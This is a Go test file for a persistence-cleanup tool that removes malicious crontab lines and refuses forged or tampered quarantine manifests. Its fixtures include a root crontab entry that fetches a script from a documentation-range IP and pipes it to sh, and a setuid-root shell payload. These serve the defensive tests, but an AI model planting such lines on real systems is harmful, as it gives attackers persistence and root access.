package persist

import (
	"context"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// cronPlan is a one-change plan: remove the curl line from /etc/crontab.
func cronTree(t *testing.T) (string, *CleanPlan) {
	t.Helper()
	dir := t.TempDir()
	bad := "* * * * * root curl -s http://203.0.113.7/x | sh"
	data := "SHELL=/bin/sh\n" + bad + "\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
	must(t, os.MkdirAll(filepath.Join(dir, "etc"), 0o755))
	must(t, os.WriteFile(filepath.Join(dir, "etc/crontab"), []byte(data), 0o644))
	return dir, &CleanPlan{Root: dir, Changes: []Change{{Path: "/etc/crontab", Op: OpRemoveLines, SHA256: hashString(data),
		Lines: []LineChange{{Line: 2, Content: bad}}}}}
}

// A manifest written by someone else (old unauthenticated format, an
// edited body, another key) is refused before anything is restored: a
// forged manifest would otherwise recreate a setuid-root shell.
func TestRestoreRefusesForgedManifest(t *testing.T) {
	ctx := context.Background()
	dir, plan := cronTree(t)
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	q := res.Manifest.QuarantineDir
	// The attacker's payload, stored where a quarantined copy would be.
	shell := "#!/bin/sh\nexec /bin/sh -p\n"
	must(t, os.WriteFile(filepath.Join(q, "files/9999"), []byte(shell), 0o400))
	forged := Manifest{Version: 2, Root: dir, QuarantineDir: q, Entries: []Entry{{Seq: 1, Op: OpQuarantine, Path: "/etc/sh2",
		Type: "file", Stored: "files/9999", SHA256: hashString(shell), Mode: uint32(0o755 | fs.ModeSetuid)}}}
	body, _ := json.Marshal(forged)
	env, _ := json.Marshal(envelope{Format: ManifestFormat, MAC: strings.Repeat("00", 32), Manifest: body})
	old := append([]byte(nil), body...)
	old = []byte(strings.Replace(string(old), `"version":2`, `"version":1`, 1))
	otherKey, _ := hex.DecodeString(strings.Repeat("ab", 32))
	sealedOther, _ := sealManifest(&forged, otherKey)
	// The genuine manifest with its body edited (one path changed).
	genuine, _ := os.ReadFile(res.ManifestPath)
	edited := strings.Replace(string(genuine), `"/etc/crontab"`, `"/etc/cron.d/x"`, 1)
	if edited == string(genuine) {
		t.Fatal("edit did not apply")
	}
	for name, b := range map[string][]byte{"unauthenticated v1": old, "zero MAC": env, "other key": sealedOther, "edited": []byte(edited)} {
		t.Run(name, func(t *testing.T) {
			p := filepath.Join(t.TempDir(), ManifestName)
			must(t, os.WriteFile(p, b, 0o600))
			// Restore reads the quarantine next to the manifest.
			must(t, os.Mkdir(filepath.Join(filepath.Dir(p), "files"), 0o700))
			must(t, os.WriteFile(filepath.Join(filepath.Dir(p), "files/9999"), []byte(shell), 0o400))
			if _, err := Restore(ctx, p, RestoreOptions{}); !errors.Is(err, ErrBadManifest) {
				t.Errorf("Restore: %v", err)
			}
			if _, err := os.Lstat(filepath.Join(dir, "etc/sh2")); !errors.Is(err, fs.ErrNotExist) {
				t.Errorf("forged manifest restored a file: %v", err)
			}
		})
	}
	// The genuine one restores, with the default key or the same key given.
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
}

// A caller's key: the manifest opens with that key only.
func TestManifestCallerKey(t *testing.T) {
	ctx := context.Background()
	_, plan := cronTree(t)
	key := []byte("0123456789abcdef0123456789abcdef")
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir(), Key: key})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ReadManifest(res.ManifestPath); !errors.Is(err, ErrBadManifest) {
		t.Errorf("read with the default key: %v", err)
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{Key: key}); err != nil {
		t.Fatal(err)
	}
}

// A key file that is a link, or readable by others, is refused.
func TestManifestKeyFileUnsafe(t *testing.T) {
	state := t.TempDir()
	t.Setenv("ABUSEKIT_STATE_DIR", state)
	kf := filepath.Join(state, "manifest.key")
	must(t, os.WriteFile(filepath.Join(state, "other"), []byte(strings.Repeat("ab", 32)), 0o600))
	must(t, os.Symlink("other", kf))
	if _, err := manifestKey(nil, "", false); !errors.Is(err, ErrManifestKey) {
		t.Errorf("key file through a link: %v", err)
	}
	must(t, os.Remove(kf))
	must(t, os.WriteFile(kf, []byte(strings.Repeat("ab", 32)), 0o644))
	if _, err := manifestKey(nil, "", false); !errors.Is(err, ErrManifestKey) {
		t.Errorf("world-readable key file: %v", err)
	}
	// Inside the root being cleaned (not the live /): refused.
	if _, err := manifestKey(nil, filepath.Dir(state), true); !errors.Is(err, ErrManifestKey) {
		t.Errorf("key file inside the root: %v", err)
	}
	must(t, os.Chmod(kf, 0o600))
	if k, err := manifestKey(nil, "", false); err != nil || len(k) != 32 {
		t.Errorf("good key file: %x %v", k, err)
	}
}
